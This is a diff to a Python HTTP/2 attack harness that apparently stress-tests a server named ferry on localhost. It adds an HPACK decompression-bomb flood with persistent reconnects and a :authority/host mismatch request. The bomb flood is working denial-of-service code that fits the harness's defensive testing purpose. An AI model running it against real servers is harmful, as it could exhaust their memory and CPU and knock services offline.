@@ -8,6 +8,8 @@ C++ test checks it together with ferry's CPU, memory and counters:
   h2_attacks.py PORT rapid_reset STREAMS
   h2_attacks.py PORT continuation_flood MEGABYTES
   h2_attacks.py PORT hpack_bomb REFERENCES
+  h2_attacks.py PORT hpack_bomb_flood SECONDS REFERENCES RECONNECTS_PER_SECOND
+  h2_attacks.py PORT authority_host AUTHORITY HOST
   h2_attacks.py PORT settings_flood FRAMES
   h2_attacks.py PORT ping_flood FRAMES
   h2_attacks.py PORT zero_window PATH SECONDS
@@ -209,6 +211,84 @@ def hpack_bomb(port, references):
                        stream_reset=1 in peer.resets)
 
 
+def raw_request_prefix(path):
+    """:method GET, :scheme http (static table), :path and :authority literal without indexing
+    (RFC 7541 §6.2.2): nothing is added to the dynamic table, whose index 62 stays the bomb."""
+    prefix = bytes([0x82, 0x86])
+    prefix += bytes([0x04]) + bytes(encode_integer(len(path), 7)) + path
+    prefix += bytes([0x01]) + bytes(encode_integer(9, 7)) + b"127.0.0.1"
+    return prefix
+
+
+def hpack_bomb_flood(port, seconds, references, reconnects_per_second):
+    """F2 of the reliability findings, for `seconds`: one 4,000-byte entry put in the dynamic
+    table, then HEADERS blocks that reference it `references` times each (2,000: 8 MB decoded
+    from ~2 KB) on new streams, as fast as ferry takes them, reading what it answers. The first
+    block both enters the entry and references it. When ferry closes the connection the
+    attacker opens another one and starts again, at most `reconnects_per_second` a second (a
+    persistent attacker, not a connection flood: that costs any server its per-connection
+    work, whatever the connection carries)."""
+    name, value = b"x-bomb", b"b" * 4000
+    refs = bytes([0x80 | 62]) * references
+    seed = raw_request_prefix(b"/v1/stream/bomb")
+    seed += bytes([0x40]) + bytes(encode_integer(len(name), 7)) + name
+    seed += bytes(encode_integer(len(value), 7)) + value + refs
+    bomb = raw_request_prefix(b"/v1/stream/bomb") + refs
+    started = time.monotonic()
+    deadline = started + seconds
+    connections = blocks = wire = 0
+    statuses = {}
+    goaway_errors = {}
+    while time.monotonic() < deadline:
+        # The attacker's own pacing between connections (not a wait on ferry).
+        next_connect = started + connections / reconnects_per_second
+        if next_connect > time.monotonic():
+            time.sleep(min(next_connect, deadline) - time.monotonic())
+            continue
+        try:
+            peer = Peer(port)
+        except OSError:
+            continue
+        connections += 1
+        sid = 1
+        ok = peer.send(HeadersFrame(sid, seed, flags=["END_HEADERS", "END_STREAM"]).serialize())
+        while ok and not peer.closed and time.monotonic() < deadline:
+            sid += 2
+            if sid > 2**31 - 1:
+                break
+            ok = peer.send(HeadersFrame(sid, bomb, flags=["END_HEADERS", "END_STREAM"])
+                           .serialize())
+            if ok:
+                blocks += 1
+                wire += len(bomb)
+            peer.poll()
+        peer.wait_closed(max(0.0, min(0.2, deadline - time.monotonic())))
+        for headers in peer.headers.values():
+            status = headers.get(":status", "?")
+            statuses[status] = statuses.get(status, 0) + 1
+        for _, error, _ in peer.goaways:
+            goaway_errors[str(error)] = goaway_errors.get(str(error), 0) + 1
+        peer.sock.close()
+    return {"seconds": time.monotonic() - started, "connections": connections,
+            "bomb_blocks": blocks, "wire_bytes": wire, "statuses": statuses,
+            "goaway_errors": goaway_errors}
+
+
+def authority_host(port, authority, host):
+    """One GET whose host field may name another entity than :authority (RFC 9113 §8.3.1)."""
+    peer = Peer(port)
+    block = hpack.Encoder().encode([(":method", "GET"), (":scheme", "http"),
+                                    (":authority", authority), (":path", "/v1/stream/host"),
+                                    ("host", host)])
+    peer.send(HeadersFrame(1, block, flags=["END_HEADERS", "END_STREAM"]).serialize())
+    deadline = time.monotonic() + 10
+    while (not peer.closed and 1 not in peer.headers and 1 not in peer.resets and
+           time.monotonic() < deadline):
+        peer.poll(0.1)
+    return peer.result(status=peer.headers.get(1, {}).get(":status"),
+                       reset_code=peer.resets.get(1))
+
+
 def control_flood(port, frames, make):
     """Control frames that each ask for an answer, sent without reading the answers."""
     peer = Peer(port)
@@ -350,6 +430,10 @@ def main():
         result = continuation_flood(port, int(args[0]))
     elif attack == "hpack_bomb":
         result = hpack_bomb(port, int(args[0]))
+    elif attack == "hpack_bomb_flood":
+        result = hpack_bomb_flood(port, float(args[0]), int(args[1]), float(args[2]))
+    elif attack == "authority_host":
+        result = authority_host(port, args[0], args[1])
     elif attack == "settings_flood":
         result = control_flood(port, int(args[0]), lambda i: SettingsFrame(0))
     elif attack == "ping_flood":
